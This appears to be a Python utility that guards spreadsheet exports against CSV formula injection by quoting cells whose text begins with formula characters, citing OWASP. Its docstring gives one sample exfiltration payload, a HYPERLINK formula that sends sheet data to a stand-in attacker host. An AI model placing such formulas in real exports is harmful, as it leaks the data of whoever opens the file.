"""CSV cells that a spreadsheet opens as text, never as a formula.

Exports carry text staff typed (titles, review comments, names). Excel, LibreOffice and
Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some versions,
one that starts with a tab or a carriage return) as a formula: a title such as
``=HYPERLINK("https://evil.example/?leak="&A1,"詳細")`` would leak the sheet, and DDE payloads
can start programs. OWASP's rule for CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a single
quote, which the spreadsheet shows as text and hides; the rest of the text is kept as typed.
Numbers stay numbers: a negative count is data, not a formula."""

from __future__ import annotations

from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe_cell(value: Any) -> Any:
    """``value`` as a CSV writer should get it: numbers and empty cells as they are, anything
    else as text, quoted with a leading ``'`` when a spreadsheet would run it."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_safe_row(row: list[Any]) -> list[Any]:
    return [csv_safe_cell(value) for value in row]
